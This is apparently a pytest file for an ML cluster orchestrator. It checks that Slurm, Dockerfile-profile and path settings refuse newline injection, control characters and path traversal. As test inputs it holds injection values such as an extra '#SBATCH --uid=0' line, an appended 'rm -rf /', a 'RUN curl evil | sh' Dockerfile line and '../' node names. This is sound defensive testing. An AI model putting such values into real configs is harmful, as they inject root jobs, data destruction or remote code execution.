"""Values that become lines of sbatch scripts and Dockerfiles, or parts of paths, are refused at
load time when they could break out: a newline, a path part such as '../../../X', a name that
only `^...$` (which also matches before a trailing newline) would let through."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from orchestrator.backends.slurm.script import build_slurm_plan
from orchestrator.config import parse_cluster
from orchestrator.errors import ConfigError, ImageError, IngestError
from orchestrator.images.containers import container_argv
from orchestrator.images.profiles import RuntimeOptions, load_profile
from orchestrator.images.spec import render_dockerfile
from orchestrator.plan import make_job, parse_sets
from orchestrator.runfolder.folder import manifest_from_dict
from orchestrator.slurm_settings import SlurmSettings
from orchestrator.specs import CaseSettings, ClusterSpec, Topology
from orchestrator.transport.base import check_env
from tests.unit.test_images_profiles import NEW_VENDOR

NODE = {"name": "n1", "address": "10.0.0.1"}


def _refused(data: dict) -> str:
    with pytest.raises(ConfigError) as err:
        parse_cluster(data, "lab.toml")
    line = err.value.one_line()
    assert "\n" not in line  # one line, whatever the value held
    return line


@pytest.mark.parametrize("name", ["../../../X", "a/b", "..", ".hidden", "n1\n", "n 1", ""])
def test_a_node_name_that_is_not_a_safe_path_part_is_refused_at_load(name: str) -> None:
    line = _refused({"nodes": [{"name": name, "address": "10.0.0.1"}]})
    assert line.startswith("lab.toml: nodes[0].name ")


def test_safe_node_names_still_load() -> None:
    spec = parse_cluster(
        {"nodes": [{"name": "c500-01.lab_a", "address": "10.0.0.1"}, NODE]}, "lab.toml"
    )
    assert [n.name for n in spec.nodes] == ["c500-01.lab_a", "n1"]


@pytest.mark.parametrize(
    "key, value",
    [
        ("partition", "gpu\n#SBATCH --uid=0"),
        ("account", "lab\rx"),
        ("qos", "high\x00"),
        ("shared_dir", "/shared\nrm -rf /"),
        ("node_dir", "/local/orch\n"),
        ("python", "python3\tx"),
        ("container_image", "/img.sqsh\nx"),
        ("sbatch_options", ["--exclusive", "--comment=x\n#SBATCH --uid=0"]),
        ("container_mounts", ["/a:/a\u2028"]),
    ],
)
def test_a_control_character_in_a_slurm_setting_is_refused_naming_file_and_key(
    key: str, value: object
) -> None:
    line = _refused({"cluster": {"backend": "slurm"}, "slurm": {key: value}})
    assert line.startswith(f"lab.toml: slurm.{key} holds the control character ")
    assert "write it on one line" in line


@pytest.mark.parametrize(
    "table, key",
    [
        ({"nodes": [{**NODE, "workdir": "/tmp/o\nx"}]}, "nodes[0].workdir"),
        ({"nodes": [NODE], "case": {"data_dir": "/data\n"}}, "case.data_dir"),
        ({"nodes": [NODE], "case": {"hparams": {"lr": "0.1\n"}}}, "case.hparams.lr"),
        ({"nodes": [NODE], "image": {"base": "b:1\nRUN x"}}, "image.base"),
    ],
)
def test_a_control_character_anywhere_in_the_cluster_file_is_refused(table: dict, key: str) -> None:
    assert _refused(table).startswith(f"lab.toml: {key} holds the control character ")


def _profile(tmp_path: Path, text: str) -> None:
    (tmp_path / "Dockerfile.template").write_text("FROM {{base_image}}\nRUN {{requirements}}\n")
    (tmp_path / "kunlunxin-r300").mkdir()
    (tmp_path / "kunlunxin-r300" / "profile.toml").write_text(text)


@pytest.mark.parametrize(
    "old, new, key",
    [
        (
            'requirements = ["torch"]',
            'requirements = ["torch\\nRUN curl evil | sh"]',
            "requirements",
        ),
        ('base = "vendor/xpu-base:1.0"', 'base = "b\\nRUN x"', "base"),
        ('XACC_ENABLE = "1"', '"XACC\\n" = "1"', "env"),
        ('XACC_ENABLE = "1"', 'XACC_ENABLE = "1\\nRUN x"', "env"),
        ('visible_devices_env = "XPU_VISIBLE_DEVICES"', 'visible_devices_env = "X\\n"', "visible"),
    ],
)
def test_a_newline_in_a_profile_is_refused_before_any_dockerfile(
    tmp_path: Path, old: str, new: str, key: str
) -> None:
    assert old in NEW_VENDOR
    _profile(tmp_path, NEW_VENDOR.replace(old, new))
    with pytest.raises(ImageError) as err:
        load_profile("kunlunxin-r300", tmp_path)
    assert key in err.value.one_line() and "\n" not in err.value.one_line()


def test_a_profile_name_with_a_trailing_newline_is_not_a_profile(tmp_path: Path) -> None:
    _profile(tmp_path, NEW_VENDOR)
    assert load_profile("kunlunxin-r300", tmp_path).name == "kunlunxin-r300"
    with pytest.raises(ImageError, match="no vendor profile"):
        load_profile("kunlunxin-r300\n", tmp_path)


def test_a_base_image_from_the_command_line_with_a_newline_renders_no_dockerfile(
    tmp_path: Path,
) -> None:
    _profile(tmp_path, NEW_VENDOR)
    profile = load_profile("kunlunxin-r300", tmp_path)
    assert render_dockerfile(profile, "b:2").startswith("FROM b:2\n")
    with pytest.raises(ImageError, match="base_image 'b:2\\\\nRUN x' holds the control"):
        render_dockerfile(profile, "b:2\nRUN x")


@pytest.mark.parametrize("name", ["PATH\n", "A\nB", "1A", "A-B"])
def test_env_names_with_a_trailing_newline_or_strange_characters_are_refused(name: str) -> None:
    assert check_env({"A_1": "x"}) == {"A_1": "x"}
    with pytest.raises(ImageError, match="environment variable name"):
        container_argv(RuntimeOptions(), "img", "r1", 0, ["true"], {name: "1"})
    with pytest.raises(ConfigError, match="environment variable name"):
        check_env({name: "1"})


def test_a_manifest_run_id_with_a_trailing_newline_is_refused() -> None:
    with pytest.raises(IngestError, match="run_id"):
        manifest_from_dict(
            {
                "schema": "orchestrator.run-manifest",
                "schema_version": 1,
                "run_id": "20260101-000000-abc\n",
            },
            "m.json",
        )


def test_a_set_value_with_a_newline_is_refused() -> None:
    assert parse_sets(["lr=0.1"]) == {"lr": "0.1"}
    with pytest.raises(ConfigError, match="holds a control character"):
        parse_sets(["lr=0.1\n#SBATCH --uid=0"])


def test_the_sbatch_script_refuses_a_value_that_escaped_every_loader() -> None:
    settings = SlurmSettings(partition="gpu")
    cluster = ClusterSpec(
        name="lab",
        vendor="cpu",
        nodes=(),
        backend="slurm",
        case=CaseSettings(data_dir="/data"),
        slurm=settings,
        source="lab.toml",
    )
    job = make_job(cluster, Topology.parse("1x1"), (), run_id="r1", precision="fp32", sets={})
    ok = build_slurm_plan(job, settings, workload_hash="0" * 16)
    assert "#SBATCH --partition=gpu\n" in ok.script
    with pytest.raises(ConfigError) as err:
        build_slurm_plan(
            job, replace(settings, partition="gpu\n#SBATCH --uid=0"), workload_hash="0" * 16
        )
    assert "'--partition=gpu\\n#SBATCH --uid=0'" in err.value.one_line()
    assert "it would become a line of the sbatch script" in err.value.one_line()


@pytest.mark.parametrize("run_id", ["../x", "r1\n", "a/b", ".r", "r" * 65])
def test_a_run_id_that_is_not_a_safe_path_part_makes_no_job(run_id: str) -> None:
    cluster = ClusterSpec(
        name="lab", vendor="cpu", nodes=(), case=CaseSettings(data_dir="/d"), source="x"
    )
    assert make_job(cluster, Topology.parse("1x1"), (), run_id="r" * 64).run_id == "r" * 64
    with pytest.raises(ConfigError) as caught:
        make_job(cluster, Topology.parse("1x1"), (), run_id=run_id)
    assert caught.value.one_line() == (
        f"run id {run_id!r} is not 1-64 letters, digits, '.', '_' or '-' (let orchestrator name "
        "the run)"
    )
